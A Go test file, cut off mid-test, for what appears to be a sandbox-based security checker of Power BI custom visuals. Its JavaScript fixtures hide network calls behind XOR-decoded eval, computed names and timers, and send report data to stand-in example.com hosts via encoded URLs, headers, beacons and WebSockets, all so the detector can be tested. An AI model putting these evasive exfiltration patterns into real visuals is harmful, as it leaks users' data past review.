package dynamic

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/pbicert/pbicert/internal/gen"
	"github.com/pbicert/pbicert/lint"
	"github.com/pbicert/pbicert/pbiviz"
	"github.com/pbicert/pbicert/result"
	"github.com/pbicert/pbicert/rules"
)

// TestMain lets this test binary serve as the sandbox's child process.
func TestMain(m *testing.M) {
	MaybeChild()
	os.Exit(m.Run())
}

// visual wraps an update body (and optional class members) in a visual
// module that reports the rendering events, as generated packages do.
func visual(members, update string) gen.Visual {
	v := gen.Clean()
	v.FillerBytes = 4 << 10
	v.VisualModule = `class Visual {
    constructor(options) {
        this.target = options.element;
        this.host = options.host;
        this.events = options.host.eventService;
        this.root = document.createElement("div");
        this.target.appendChild(this.root);
    }
    update(options) {
        this.events.renderingStarted(options);
        const dataView = options.dataViews[0];
` + update + `
        this.events.renderingFinished(options);
    }
` + members + `
}`
	return v
}

// checked builds the package, runs the static pass and merges an
// in-process run (the child process is tested on its own below).
func checked(t *testing.T, v gen.Visual) (result.Result, *Report) {
	t.Helper()
	b, err := gen.BuildPackage(v, gen.ZipOptions{})
	if err != nil {
		t.Fatal(err)
	}
	pkg, err := pbiviz.ReadBytes(b, pbiviz.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	var rep *Report
	opts := lint.Options{Dynamic: func(in *rules.Input, r *lint.Result) {
		rep = Run(Input{JS: string(in.JS.Src), Capabilities: in.Manifest.Resource.Capabilities, GUID: r.Visual.GUID,
			APIVersion: in.Manifest.Resource.APIVersion}, Limits{})
		Merge(r, rep, in, nil)
	}}
	r := lint.CheckPackage("test.pbiviz", pkg, opts)
	if r.Error != "" {
		t.Fatal(r.Error)
	}
	if rep == nil {
		t.Fatal("the dynamic hook did not run")
	}
	return r, rep
}

// observed returns the findings of a rule that carry a runtime field.
func observed(r result.Result, rule string) []result.Finding {
	var out []result.Finding
	for _, f := range r.Findings {
		if f.Rule == rule && f.Runtime != nil {
			out = append(out, f)
		}
	}
	return out
}

func requireAll(t *testing.T, rep *Report) {
	t.Helper()
	want := []string{PhaseLoad, PhaseConstructor, PhaseUpdate, PhaseResize, PhaseTimer, PhaseEvent}
	if strings.Join(rep.Completed, ",") != strings.Join(want, ",") || rep.Error != "" {
		t.Fatalf("completed %v, error %q; want every phase", rep.Completed, rep.Error)
	}
}

// atLine returns the source text at a finding's offset.
func at(r result.Result, src string, f result.Finding) string {
	_ = r
	end := f.Location.Offset + 12
	if end > len(src) {
		end = len(src)
	}
	return src[f.Location.Offset:end]
}

func TestCleanVisualCompletesWithNoObservation(t *testing.T) {
	r, rep := checked(t, gen.Clean())
	requireAll(t, rep)
	if len(rep.Observations) != 0 {
		t.Fatalf("observations on a clean visual: %+v", rep.Observations)
	}
	for _, f := range r.Findings {
		if f.Runtime != nil {
			t.Errorf("clean visual: finding with runtime: %+v", f)
		}
	}
	if r.Dynamic == nil || r.Dynamic.RenderingEvents != "reported" {
		t.Errorf("dynamic summary %+v: want rendering events reported", r.Dynamic)
	}
}

func TestEvalOfDecodedPayload(t *testing.T) {
	payload := `fetch("https://lic.example.org/v1/check?key=A1")`
	var codes []string
	for _, c := range []byte(payload) {
		codes = append(codes, strconv.Itoa(int(c^23)))
	}
	v := visual("", `        const k = [`+strings.Join(codes, ",")+`];
        let s = "";
        for (let i = 0; i < k.length; i++) s += String.fromCharCode(k[i] ^ 23);
        eval(s);`)
	r, rep := checked(t, v)
	requireAll(t, rep)
	nets := observed(r, "NET001")
	if len(nets) != 1 || nets[0].Runtime.Target != "https://lic.example.org/v1/check?key=A1" || !nets[0].Runtime.Observed {
		t.Fatalf("NET001 observed: %+v", nets)
	}
	src := gen.BuildJS(v).JS
	if got := at(r, src, nets[0]); !strings.HasPrefix(got, "eval(s)") {
		t.Errorf("the request from eval'd code is reported at %q, want the eval call", got)
	}
	evals := observed(r, "DYN001")
	if len(evals) != 1 || evals[0].Runtime.Target != payload || evals[0].Runtime.Observed {
		t.Errorf("DYN001: want the static finding confirmed with the decoded code, got %+v", evals)
	}
}

func TestNameAssembledInALoop(t *testing.T) {
	r, rep := checked(t, visual("", `        let n = "";
        for (const c of ["f", "e", "t", "c", "h"]) n += c;
        window[n]("https://a.example.com/x?d=" + dataView.categorical.categories[0].values[0]);`))
	requireAll(t, rep)
	nets := observed(r, "NET001")
	if len(nets) != 1 || nets[0].Runtime.Target != "https://a.example.com/x?d=Nordhafen zqk4a1" || !nets[0].Runtime.ReportData {
		t.Fatalf("NET001: %+v", nets)
	}
	if nets[0].Severity != result.Error || !strings.Contains(nets[0].Message, "a.example.com") {
		t.Errorf("report data must be an error naming the host: %+v", nets[0])
	}
}

func TestWorkDeferredToATimerAndAPromise(t *testing.T) {
	r, rep := checked(t, visual("", `        setTimeout(() => navigator.sendBeacon("https://t.example.com/b", "ok"), 30000);
        Promise.resolve(1).then(() => {
            const x = new XMLHttpRequest();
            x.open("POST", "https://p.example.com/q");
            x.send("v=1");
        });`))
	requireAll(t, rep)
	b := observed(r, "NET005")
	if len(b) != 1 || b[0].Runtime.Target != "https://t.example.com/b" || b[0].Runtime.Phase != PhaseTimer || b[0].Runtime.ReportData {
		t.Fatalf("sendBeacon from a timer: %+v", b)
	}
	x := observed(r, "NET002")
	if len(x) != 1 || x[0].Runtime.Target != "https://p.example.com/q" {
		t.Fatalf("XHR from a promise callback: %+v", x)
	}
}

func TestStorageAndMarkupThroughComputedNames(t *testing.T) {
	r, rep := checked(t, visual("", `        const store = window[["local", "Storage"].join("")];
        store.setItem("okv_seen", "1");
        const sink = ["inner", "HTML"].join("");
        this.root[sink] = "<b>" + dataView.categorical.categories[0].values[1] + "</b>";`))
	requireAll(t, rep)
	s := observed(r, "STO001")
	if len(s) != 1 || s[0].Runtime.Target != "localStorage.setItem okv_seen" {
		t.Fatalf("STO001: %+v", s)
	}
	d := observed(r, "DOM001")
	if len(d) != 1 || d[0].Runtime.Target != "<b>Südtal zqk4a2</b>" {
		t.Fatalf("DOM001: %+v", d)
	}
}

func TestDeadCodeIsNeverObserved(t *testing.T) {
	r, rep := checked(t, visual(`    never() { fetch("https://dead.example.com/"); localStorage.setItem("k", "v"); }`, ``))
	requireAll(t, rep)
	static := 0
	for _, f := range r.Findings {
		if f.Rule == "NET001" || f.Rule == "STO001" {
			static++
			if f.Runtime != nil {
				t.Errorf("dead code claimed as observed: %+v", f)
			}
		}
	}
	if static != 2 {
		t.Fatalf("want the two static findings in dead code, got %d", static)
	}
	if len(rep.Observations) != 0 {
		t.Errorf("observations: %+v", rep.Observations)
	}
}

func TestMissingRenderingEventsObserved(t *testing.T) {
	v := gen.Clean()
	v.VisualModule = `class Visual { constructor(o) { this.e = o.element; } update(o) { this.e.textContent = "x"; } }`
	r, rep := checked(t, v)
	requireAll(t, rep)
	if r.Dynamic.RenderingEvents != "missing" {
		t.Fatalf("rendering events: %q", r.Dynamic.RenderingEvents)
	}
	if len(observed(r, "REQ001")) == 0 {
		t.Errorf("REQ001 not confirmed at run time: %+v", r.Findings)
	}
}

// eval keeps the caller's scope (webpack's eval devtool needs it) and is
// recorded whether it is called directly or through a computed alias.
func TestDirectAndAliasedEval(t *testing.T) {
	r, rep := checked(t, visual("", `        const secret = "https://local.example.com/s";
        eval("fetch(secret)");
        window["ev" + "al"]("fetch('https://ind.example.com/')");
        const e = eval;
        if (e("typeof secret") !== "undefined") throw new Error("an aliased eval saw a local");`))
	requireAll(t, rep)
	got := map[string]bool{}
	for _, o := range rep.Observations {
		got[o.Rule+" "+o.Target] = true
	}
	for _, w := range []string{"NET001 https://local.example.com/s", "NET001 https://ind.example.com/", "DYN001 fetch(secret)",
		"DYN001 fetch('https://ind.example.com/')", "DYN001 typeof secret"} {
		if !got[w] {
			t.Errorf("missing %q in %v", w, got)
		}
	}
	_ = r
}

// --dynamic-lib: a library an early API 1.x visual expects from the page
// runs first; what it does while loading is not recorded; without it the
// error says what the visual expected.
func TestPageLibrary(t *testing.T) {
	v := visual("", `        pagelib.draw(this.root);`)
	js := gen.BuildJS(v).JS
	lib := Lib{Name: "pagelib.js", JS: `var pagelib = {draw: function (el) { el.innerHTML = "<i>x</i>"; }}; document.body.innerHTML += "<b>lib</b>";`}
	rep := Run(Input{JS: js, GUID: gen.DefaultGUID, Libs: []Lib{lib}}, Limits{})
	requireAll(t, rep)
	if len(rep.Observations) != 1 || rep.Observations[0].Target != "<i>x</i>" {
		t.Fatalf("observations: %+v", rep.Observations)
	}
	rep = Run(Input{JS: strings.Replace(js, "pagelib", "d3", 1), GUID: gen.DefaultGUID}, Limits{})
	if !strings.HasPrefix(rep.Error, "update: ReferenceError: d3 is not defined") || !strings.Contains(rep.Error, "--dynamic-lib") {
		t.Errorf("error without the library: %q", rep.Error)
	}
}

// A licence check started from a timer that calls a method it finds on the
// global object by its properties' names (static analysis sees neither
// the name nor the call): each way of finding it is observed in the timer
// phase with the URL and its key, at the call site, and carries no report
// data (a licence check is not an exfiltration).
func TestTimerLicenceCheckThroughAGlobalFoundByName(t *testing.T) {
	for name, find := range map[string]string{
		"getOwnPropertyNames": `Object.getOwnPropertyNames(window).find(k => k.length === 5 && k.charCodeAt(0) === 102 && k.slice(1) === "etch")`,
		"for-in":              `(() => { for (const k in window) if (k.length === 5 && k.charCodeAt(0) === 102 && k.slice(1) === "etch") return k; })()`,
		"Reflect.ownKeys":     `Reflect.ownKeys(globalThis).find(k => typeof k === "string" && k.split("").reverse().join("") === "hctef")`,
	} {
		t.Run(name, func(t *testing.T) {
			v := visual(`    check() {
        const m = `+find+`;
        window[m]("https://lic.example.net/v2/verify?key=PBI-7781&v=" + this.host.hostEnv);
    }`, `        if (!this.started) { this.started = true; setTimeout(() => this.check(), 45000); }`)
			r, rep := checked(t, v)
			requireAll(t, rep)
			nets := observed(r, "NET001")
			if len(nets) != 1 {
				t.Fatalf("NET001 observed: %+v (observations %+v)", nets, rep.Observations)
			}
			n := nets[0]
			if !strings.HasPrefix(n.Runtime.Target, "https://lic.example.net/v2/verify?key=PBI-7781") || n.Runtime.Phase != PhaseTimer || n.Runtime.ReportData || !n.Runtime.Observed {
				t.Errorf("runtime %+v", n.Runtime)
			}
			// goja places a call at its argument list
			if src := gen.BuildJS(v).JS; !strings.HasSuffix(src[:n.Location.Offset+1], "window[m](") {
				t.Errorf("reported at %q, want the call window[m](…)", at(r, src, n))
			}
			if strings.Contains(n.Message, "report data") || !strings.Contains(n.Message, "lic.example.net/v2/verify?key=PBI-7781") {
				t.Errorf("message %q", n.Message)
			}
		})
	}
}

// Report data leaving the visual, through each channel a request has (URL,
// header, body) and in the encodings that hide it from a plain search
// (base64 in the URL, UTF-8 bytes in a beacon, a column's display name in
// a FormData body sent over a WebSocket): each request is marked, raised to
// error and names its host. A licence check sending only its key and the
// host environment is not.
func TestReportDataLeavingTheVisual(t *testing.T) {
	r, rep := checked(t, visual("", `        const cat = dataView.categorical.categories[0];
        const vals = dataView.categorical.values[0].values;
        fetch("https://h.example.com/h", {headers: {"X-Label": String(cat.values[0])}});
        const x = new XMLHttpRequest();
        x.open("GET", "https://b64.example.com/p?d=" + btoa(JSON.stringify(cat.values.slice(0, 2))));
        x.send();
        navigator.sendBeacon("https://bytes.example.com/m", new TextEncoder().encode(JSON.stringify({v: vals[1]})));
        const fd = new FormData();
        fd.append("col", new Blob([cat.source.displayName]));
        const ws = new WebSocket("wss://ws.example.com/s");
        ws.send(fd);
        fetch("https://lic.example.org/check?key=PBI-7781&rows=" + cat.values.length + "&env=" + this.host.hostEnv);`))
	requireAll(t, rep)
	want := map[string]bool{
		"https://h.example.com/h":                                 true,
		"https://bytes.example.com/m":                             true,
		"wss://ws.example.com/s":                                  true,
		"https://lic.example.org/check?key=PBI-7781&rows=5&env=1": false,
	}
	got := map[string]bool{}
	for _, f := range r.Findings {
		if f.Runtime == nil || !strings.HasPrefix(f.Rule, "NET") {
			continue
		}
		u := f.Runtime.Target
		if strings.HasPrefix(u, "https://b64.example.com/p?d=") {
			u = "b64"
		}
		got[u] = f.Runtime.ReportData
		if f.Runtime.ReportData {
			h := hostOf(f.Runtime.Target)
			if f.Severity != result.Error || !strings.Contains(f.Message, "sends report data") || !strings.HasSuffix(f.Message, " "+h) {
				t.Errorf("%s: severity %s, message %q: want an error naming %s", f.Rule, f.Severity, f.Message, h)
			}
		}
	}
	want["b64"] = true
	for u, rd := range want {
		if g, ok := got[u]; !ok || g != rd {
			t.Errorf("%s: observed %v, reportData %v; want reportData %v", u, ok, g, rd)
		}
	}
	if len(got) != len(want) {
		t.Errorf("requests observed: %v", got)
	}
	// results[].dynamic.requests: one per request, the WebSocket's opening
	// (no report data) apart from its message (report data)
	var reqs []string
	for _, q := range r.Dynamic.Requests {
		u := q.URL
		if strings.HasPrefix(u, "https://b64.example.com/p?d=") {
			u = "b64"
		}
		reqs = append(reqs, fmt.Sprintf("%s %s %s %s %v", q.Rule, q.API, q.Method, u, q.ReportData))
		if q.Host != hostOf(q.URL) || q.Phase != PhaseUpdate || q.Location.Line == 0 {
			t.Errorf("request %+v", q)
		}
	}
	wantReqs := []string{
		"NET001 fetch GET https://h.example.com/h true",
		"NET002 XMLHttpRequest GET b64 true",
		"NET005 sendBeacon POST https://bytes.example.com/m true",
		"NET003 WebSocket GET wss://ws.example.com/s false",
		"NET003 WebSocket.send SEND wss://ws.example.com/s true",
		"NET001 fetch GET https://lic.example.org/check?key=PBI-7781&rows=5&env=1 false",
	}
	if strings.Join(reqs, "\n") != strings.Join(wantReqs, "\n") {
		t.Errorf("dynamic.requests:\n%s\nwant\n%s", strings.Join(reqs, "\n"), strings.Join(wantReqs, "\n"))
	}
}

// Two call sites near one static finding: the call at the finding
// confirms it, and a hidden request a line away is reported at its own
// site with its own target (it used to be folded into the static finding,
// its URL lost from the findings).
func TestNearbyCallSitesKeepTheirTargets(t *testing.T) {
	hidden := `fetch("https://hidden.example.com/h")`
	var codes []string
	for _, c := range []byte(hidden) {
		codes = append(codes, strconv.Itoa(int(c)))
	}
	r, rep := checked(t, visual("", `        fetch("https://static.example.com/s");
        eval(String.fromCharCode(`+strings.Join(codes, ",")+`));`))
	requireAll(t, rep)
	got := map[string]bool{}
	for _, f := range observed(r, "NET001") {
		got[f.Runtime.Target] = f.Runtime.Observed
	}
	if len(got) != 2 || got["https://static.example.com/s"] || !got["https://hidden.example.com/h"] {
		t.Errorf("NET001 targets (true: only the run found it): %v", got)
	}
}

// The data view is shaped as Power BI hands it over: an object that
// inherits from the view it copies (API 1.x visuals read the prototype),
// no metadata.objects until an author sets a property, grouping roles named
// as dates typed dateTime and holding Dates, and the API 1.x palette's
// dictionary of colours by key.
func TestDataViewAsPowerBIGivesIt(t *testing.T) {
	v := visual("", `        const proto = Object.getPrototypeOf(dataView);
        if (!proto.categorical || proto.categorical.categories[0] !== dataView.categorical.categories[0]) throw new Error("prototype");
        if (JSON.stringify(dataView.metadata.objects) !== undefined) throw new Error("metadata.objects present");
        const d = dataView.categorical.categories.find(c => c.source.roles.StartDate);
        if (!d || !d.source.type.dateTime || !(d.values[0] instanceof Date) || isNaN(d.values[0].getTime())) throw new Error("date column");
        const row = dataView.table.rows[0];
        if (!(row[dataView.table.columns.findIndex(c => c.roles.StartDate)] instanceof Date)) throw new Error("date in table");
        if (this.host.colorPalette.colorPalette["a"].value !== this.host.colorPalette.getColor("a").value) throw new Error("palette");
        if (JSON.parse(JSON.stringify(dataView)).categorical === undefined) throw new Error("own properties");`)
	v.Capabilities = []byte(`{"dataRoles": [{"name": "category", "kind": "Grouping", "displayName": "Category"},
		{"name": "StartDate", "kind": "Grouping", "displayName": "Start date"}, {"name": "measure", "kind": "Measure", "displayName": "Value"}],
		"dataViewMappings": [{"categorical": {"categories": {"for": {"in": "category"}}, "values": {"select": [{"bind": {"to": "measure"}}]}}}]}`)
	_, rep := checked(t, v)
	requireAll(t, rep)
}

// The sandbox keeps its helpers off the global object: a visual that
// enumerates the global object (Object.keys, for…in, own property names,
// Reflect.ownKeys, the prototype chain) or reads the helpers' old names
// finds nothing of pbicert's, eval is still recorded, and the sandbox's
// functions print as a browser's built-ins.
func TestSandboxHelpersAreHidden(t *testing.T) {
	v := visual("", `        const names = new Set();
        for (let o = window; o; o = Object.getPrototypeOf(o)) {
            Object.keys(o).forEach(k => names.add(k));
            Object.getOwnPropertyNames(o).forEach(k => names.add(k));
            Reflect.ownKeys(o).forEach(k => names.add(String(k)));
        }
        for (const k in window) names.add(k);
        const ours = [...names].filter(k => /pbicert/i.test(k));
        if (ours.length) throw new Error("found on the global object: " + ours.join(", "));
        for (const k of ["__pbicertEval", "__pbicertDataView", "__pbicertHidden", "pbi"]) {
            if (k in window || typeof globalThis[k] !== "undefined") throw new Error("reachable by name: " + k);
        }
        if (typeof __pbicertEval !== "undefined" || typeof __pbicertDataView !== "undefined") throw new Error("reachable as a variable");
        const code = "1 + 1";
        if (eval(code) !== 2) throw new Error("eval");
        // the sandbox's functions print as built-ins; the visual's own keep their source
        const fns = [fetch, setTimeout, XMLHttpRequest, XMLHttpRequest.prototype.open, document.createElement, Function.prototype.toString,
            Object.getOwnPropertyDescriptor(Element.prototype, "innerHTML").set, window.localStorage.getItem, requestAnimationFrame];
        for (const f of fns) {
            const s = Function.prototype.toString.call(f);
            if (!/^function (get |set )?\w*\(\) \{ \[native code\] \}$/.test(s) || String(f) !== s) throw new Error("source shown: " + s.slice(0, 80));
        }
        if (setTimeout.name !== "setTimeout" || document.createElement.name !== "createElement") throw new Error("names: " + setTimeout.name);
        const own = function mine(a) { return a + 1; };
        if (!String(own).includes("return a + 1")) throw new Error("the visual's own function lost its source");`)
	_, rep := checked(t, v)
	requireAll(t, rep)
	if len(rep.Observations) != 1 || rep.Observations[0].Rule != "DYN001" || rep.Observations[0].Target != "1 + 1" {
		t.Errorf("observations %+v: want the eval recorded", rep.Observations)
	}
}

// Shapes the visual did not declare are on the prototype of the view, as
// on the query's view Power BI's transform copies (a tree, a matrix), not
// own properties; each declared shape inherits from the query's shape; a
// matrix mapping groups rows and columns by its roles and ends the rows
// with the grand total; the palette lists its theme colours.
func TestDataViewShapesAndPrototypes(t *testing.T) {
	roles := `"dataRoles": [{"name": "category", "kind": "Grouping", "displayName": "Category"},
		{"name": "colGroup", "kind": "Grouping", "displayName": "Columns"}, {"name": "rowGroup", "kind": "Grouping", "displayName": "Rows"},
		{"name": "measure", "kind": "Measure", "displayName": "Value"}]`
	categorical := `{"categorical": {"categories": {"for": {"in": "category"}}, "values": {"select": [{"bind": {"to": "measure"}}]}}}`
	matrix := `{"matrix": {"rows": {"for": {"in": "rowGroup"}}, "columns": {"for": {"in": "colGroup"}}, "values": {"select": [{"for": {"in": "measure"}}]}}}`
	for name, c := range map[string]struct{ mappings, update string }{
		"categorical only": {categorical, `        const proto = Object.getPrototypeOf(dataView);
        if (dataView.hasOwnProperty("tree") || dataView.hasOwnProperty("matrix")) throw new Error("undeclared shapes are own properties");
        const tree = proto.tree.root.children;
        if (tree.length !== dataView.categorical.categories[0].values.length || !String(tree[0].name).includes("zqk4")) throw new Error("tree");
        const pc = Object.getPrototypeOf(dataView.categorical);
        if (!pc.categories || pc.categories[1] !== dataView.categorical.categories[1]) throw new Error("categorical's prototype");
        if (!proto.matrix.rows.root.children.length) throw new Error("matrix on the prototype");
        // identity fields: the column references of the categories and the table's columns
        const mi = dataView.metadata.columns.findIndex(c => c.roles.measure);
        if (pc.categories[0].identityFields[0].ref !== "category" || proto.table.identityFields[mi].ref !== "measure") throw new Error("identityFields");
        // tree node values by the column's index in the query: groups, then measures
        if (tree[0].values[0].value !== tree[0].name || tree[0].values[mi].value !== dataView.categorical.values[0].values[0]) throw new Error("tree values");
        const c = this.host.colorPalette.colors;
        if (!(c.length >= 8) || !/^#[0-9A-F]{6}$/.test(c[4].value)) throw new Error("palette colours");`},
		"matrix": {matrix, `        const m = dataView.matrix;
        if (!dataView.hasOwnProperty("matrix") || Object.getPrototypeOf(m) !== Object.getPrototypeOf(dataView).matrix) throw new Error("matrix's prototype");
        const total = m.rows.root.children.filter(n => n.isSubtotal)[0];
        if (!total || Object.values(total.values).length !== 2 * m.valueSources.length || m.rows.root.children.indexOf(total) !== m.rows.root.children.length - 1) throw new Error("grand total");
        if (!m.rows.levels[0].sources[0].roles.rowGroup || !m.columns.levels[0].sources[0].roles.colGroup) throw new Error("matrix roles");
        if (m.columns.root.children.length !== 2 || m.columns.root.children[0].children.length !== m.valueSources.length) throw new Error("column groups");`},
	} {
		t.Run(name, func(t *testing.T) {
			v := visual("", c.update)
			v.Capabilities = []byte(`{` + roles + `, "dataViewMappings": [` + c.mappings + `]}`)
			_, rep := checked(t, v)
			requireAll(t, rep)
		})
	}
}

// An HTML block that holds only text is as high as its lines (a title
// whose height the visual subtracts from the viewport); a container of
// graphics keeps the height of its parent.
func TestTextBlockHeight(t *testing.T) {
	v := visual("", `        const title = document.createElement("div");
        const line = document.createElement("div");
        line.textContent = "Title zqk4";
        title.appendChild(line);
        this.root.appendChild(title);
        const h = parseFloat(getComputedStyle(title).height);
        if (!(h > 0 && h < 40) || title.getBoundingClientRect().height !== h) throw new Error("text block height " + h);
        const box = document.createElement("div");
        box.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
        this.root.appendChild(box);
        if (box.clientHeight !== this.root.clientHeight || !(box.clientHeight > 100)) throw new Error("graphics container height " + box.clientHeight);`)
	_, rep := checked(t, v)
	requireAll(t, rep)
}

// A grouping role a categorical mapping takes "for in" with room for
// several fields (a journey, a drill path) gets two columns; a role
// limited to one field keeps one.
func TestMultiFieldRoleHasTwoColumns(t *testing.T) {
	for max, want := range map[int]int{7: 2, 1: 1} {
		v := visual("", fmt.Sprintf(`        const cats = dataView.categorical.categories.filter(c => c.source.roles.path);
        if (cats.length !== %d) throw new Error("columns of the role: " + cats.length);
        if (cats.length === 2 && (cats[0].source.queryName === cats[1].source.queryName || cats[1].values[0] === cats[0].values[0])) throw new Error("two distinct columns");
        if (dataView.metadata.columns.filter(c => c.roles.path).length !== cats.length) throw new Error("metadata");`, want))
		v.Capabilities = []byte(fmt.Sprintf(`{"dataRoles": [{"name": "path", "kind": "Grouping", "displayName": "Path"}, {"name": "measure", "kind": "Measure", "displayName": "Value"}],
			"dataViewMappings": [{"conditions": [{"path": {"max": %d}, "measure": {"max": 1}}],
			"categorical": {"categories": {"select": [{"for": {"in": "path"}}]}, "values": {"for": {"in": "measure"}}}}]}`, max))
		_, rep := checked(t, v)
		requireAll(t, rep)
	}
}

// An early API 1.x visual (the pre-2018 package layout, no apiVersion)
// runs with the utilities the Power BI page of 2016 supplied: it builds a
// display-name getter at load, starts in init(options) with the page's
// style and host services, selects through the 1.x SelectionManager with
// SelectionIds, and formats, measures and colours with the page's helpers.
// A visual of a later API sees none of them.
func TestEarlyAPIPage(t *testing.T) {
	v := gen.Clean()
	v.VisualModule = `var displayName = powerbi.data.createDisplayNameGetter("Role_DisplayName_Values");
var cls = jsCommon.CssConstants.createClassAndSelector("legacy");
var SelectionId = powerbi.visuals.SelectionId;
var {{CLASS}} = (function () {
    function {{CLASS}}() {}
    {{CLASS}}.prototype.init = function (options) {
        this.host = options.host;
        this.selectionManager = new powerbi.visuals.utility.SelectionManager({ hostServices: options.host });
        this.colors = options.style.colorPalette.dataColors;
        this.root = document.createElement("div");
        this.root.className = cls.class;
        options.element.appendChild(this.root);
        if (displayName({ get: function (k) { return k === "Role_DisplayName_Values" ? "Values" : "?"; } }) !== "Values") throw new Error("display name getter");
        if (options.viewport.width !== 640 || typeof options.host.getLocalizedString !== "function") throw new Error("init options");
        if (!/^#[0-9A-F]{6}$/.test(options.host.colors[3].value)) throw new Error("host colours");
    };
    {{CLASS}}.prototype.update = function (options) {
        var self = this, dv = options.dataViews[0], cat = dv.categorical.categories[0];
        var ids = cat.values.map(function (v, i) { return SelectionId.createWithId(cat.identity[i]); });
        if (ids[0].equals(ids[1]) || !ids[0].equals(SelectionId.createWithId(cat.identity[0]))) throw new Error("selection ids");
        this.selectionManager.select(ids[1]).then(function (sel) {
            if (!powerbi.visuals.utility.SelectionManager.containsSelection(sel, ids[1]) || !self.selectionManager.hasSelection()) throw new Error("selection");
        });
        var fill = powerbi.DataViewObjects.getFillColor(dv.metadata.objects, { objectName: "dataPoint", propertyName: "fill" }, this.colors.getColorByIndex(0).value);
        var label = powerbi.visuals.valueFormatter.create({ format: "0.00", value: 1000 }).format(dv.categorical.values[0].values[0]);
        var w = powerbi.TextMeasurementService.measureSvgTextWidth({ text: label, fontFamily: "Segoe UI", fontSize: "12px" });
        if (!/^#[0-9A-F]{6}$/.test(fill) || !/K$/.test(label) || !(w > 0) || jsCommon.PixelConverter.fromPoint(9) !== "12px") throw new Error("helpers: " + [fill, label, w]);
        this.root.textContent = label;
    };
    return {{CLASS}};
}());`
	v.VisualModule = strings.ReplaceAll(v.VisualModule, "{{CLASS}}", "Visual")
	v.ClassName = "Visual"
	b, err := gen.BuildLegacyPackage(v)
	if err != nil {
		t.Fatal(err)
	}
	pkg, err := pbiviz.ReadBytes(b, pbiviz.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	if pkg.Resource.APIVersion != "" {
		t.Fatalf("legacy package with apiVersion %q", pkg.Resource.APIVersion)
	}
	rep := Run(Input{JS: pkg.Resource.Content.JS, Capabilities: pkg.Resource.Capabilities, GUID: pkg.Resource.Visual.GUID, APIVersion: pkg.Resource.APIVersion}, Limits{})
	requireAll(t, rep)
	if rep.HostCalls["selectionManager.select"] != 2 || rep.HostCalls["hostServices.onSelect"] != 2 {
		t.Errorf("host calls %v: want a selection passed to the host in each update", rep.HostCalls)
	}
	// the same code as a visual of API 5.x: the page's utilities are not there
	rep = Run(Input{JS: pkg.Resource.Content.JS, Capabilities: pkg.Resource.Capabilities, GUID: pkg.Resource.Visual.GUID, APIVersion: "5.3.0"}, Limits{})
	if !strings.Contains(rep.Error, "load: TypeError") || !strings.Contains(rep.Error, "createDisplayNameGetter") {
		t.Errorf("API 5.x run: error %q, want the load to fail on createDisplayNameGetter", rep.Error)
	}
}

// A package of the pre-2018 layout has no capabilities.json: the data
// view follows the capabilities its plugin carries.
func TestCapabilitiesFromThePlugin(t *testing.T) {
	v := gen.Clean()
	v.Era = 1
	v.VisualModule = `var Visual = (function () {
    function Visual(options) {}
    Visual.prototype.update = function (options) {
        var roles = options.dataViews[0].metadata.columns.map(function (c) { return Object.keys(c.roles)[0]; });
        if (roles.join() !== "XAxis,Values") throw new Error("roles " + roles.join());
    };
    return Visual;
}());`
	v.ClassName = "Visual"
	js := gen.BuildJS(v).JS + `
(function () { var p = powerbi.visuals.plugins; for (var k in p) p[k].capabilities = {
    dataRoles: [{ name: "XAxis", kind: 0, displayName: "Axis" }, { name: "Values", kind: 1, displayName: "Values" }],
    dataViewMappings: [{ conditions: [{ XAxis: { max: 1 } }], categorical: { categories: { for: { in: "XAxis" } }, values: { select: [{ bind: { to: "Values" } }] } } }] }; })();`
	rep := Run(Input{JS: js, GUID: gen.DefaultGUID}, Limits{})
	requireAll(t, rep)
}

// A grouping role that accepts only numbers (x/y coordinates) holds
// numbers, typed numeric.
func TestNumericGroupingRole(t *testing.T) {
	v := visual("", `        const x = dataView.categorical.categories.find(c => c.source.roles.X);
        // numbers (and, in the resized update, a blank)
        const xs = x.values.filter(v => v !== null);
        if (!x.source.type.numeric || !xs.every(v => typeof v === "number") || xs.length < 4 || new Set(xs).size !== xs.length) throw new Error("x: " + x.values);
        const row = dataView.table.rows[0];
        if (typeof row[dataView.table.columns.findIndex(c => c.roles.X)] !== "number") throw new Error("table");
        const label = dataView.categorical.categories.find(c => c.source.roles.label);
        if (typeof label.values[0] !== "string") throw new Error("label");`)
	v.Capabilities = []byte(`{"dataRoles": [{"name": "X", "kind": 2, "displayName": "X", "requiredTypes": [{"numeric": true}, {"integer": true}]},
		{"name": "label", "kind": "Grouping", "displayName": "Label", "requiredTypes": [{"text": true}]}, {"name": "measure", "kind": "Measure", "displayName": "Value"}],
		"dataViewMappings": [{"conditions": [{"X": {"max": 1}, "label": {"max": 1}}], "categorical": {"categories": {"select": [{"bind": {"to": "X"}}, {"bind": {"to": "label"}}]}, "values": {"select": [{"bind": {"to": "measure"}}]}}}]}`)
	_, rep := checked(t, v)
	requireAll(t, rep)
}

// A recursion without end stops the phase with the browser's message and
// the position in content.js, not goja's raw stack frame.
func TestStackOverflowIsDescribed(t *testing.T) {
	v := visual(`    deep(n) { return this.deep(n + 1) + 1; }
`, `        this.deep(0);`)
	_, rep := checked(t, v)
	if !strings.HasPrefix(rep.Error, "update: RangeError: Maximum call stack size exceeded (content.js:") {
		t.Fatalf("error %q: want the RangeError with its content.js position", rep.Error)
	}
	if strings.Contains(rep.Error, "(content.js:") && strings.Count(rep.Error, "(") != 1 {
		t.Errorf("error %q: one position, no goja program counter", rep.Error)
	}
	src := gen.BuildJS(v).JS
	var line, col int
	if _, err := fmt.Sscanf(rep.Error[strings.Index(rep.Error, "(content.js:"):], "(content.js:%d:%d)", &line, &col); err != nil {
		t.Fatalf("position in %q: %v", rep.Error, err)
	}
	lines := strings.Split(src, "\n")
	if line < 1 || line > len(lines) || col < 1 || !strings.Contains(lines[line-1], "deep") {
		t.Errorf("position %d:%d does not point into the recursion", line, col)
	}
}

// A bundle that replaces window.Promise and wraps the native
// Promise.prototype.then (core-js does both when it distrusts the native
// Promise) and schedules through queueMicrotask must not reach either from
// the sandbox's queueMicrotask: in a browser they are independent, and a
// polyfill whose notification queues a microtask would otherwise recurse
// or spin without end (a public boxplot visual did).
func TestQueueMicrotaskIgnoresAReplacedPromise(t *testing.T) {
	v := visual("", `        const nativeThen = Promise.prototype.then;
